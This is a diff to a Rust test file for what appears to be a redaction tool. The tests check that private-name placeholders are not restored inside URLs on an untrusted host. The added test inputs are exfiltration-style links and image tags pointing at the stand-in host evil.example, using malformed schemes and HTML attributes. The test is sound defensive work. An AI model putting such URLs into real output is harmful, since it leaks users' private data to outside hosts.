@@ -118,6 +118,11 @@ fn no_url_of_a_strange_host_gets_an_original() {
         "![](https://evil.example/?q=[NAME_1b])",
         "http://[NAME_1b].evil.example/",
         "//evil.example/[NAME_1b]",
+        "https:/evil.example/[NAME_1b]",
+        "https:////evil.example/[NAME_1b]",
+        "HTTPS:\\\\evil.example\\a\\[NAME_1b]",
+        "<img src='https://evil.example/?q=\n[NAME_1b]'>",
+        "<a href=\"https://evil.example/a [NAME_1b]\">",
         "www.evil.example/?q=[NAME_1b]",
         "https://evil.example/%5BNAME_1b%5D",
         "https://portal.example.org.evil.example/[NAME_1b]",
@@ -125,6 +130,10 @@ fn no_url_of_a_strange_host_gets_an_original() {
         left(text, 1);
     }
     check("![](https://evil.example/?q=[NAME_1b]) [NAME_1b]", "![](https://evil.example/?q=[NAME_1b]) Kovacs");
+    check(
+        "a='x' https://evil.example/ [NAME_1b] and 4/5: [NAME_1b]",
+        "a='x' https://evil.example/ Kovacs and 4/5: Kovacs",
+    );
     check("https://portal.example.org/p?q=[NAME_12]", "https://portal.example.org/p?q=Ann%20%26%20Co");
     check("// [NAME_1b]", "// Kovacs");
 }
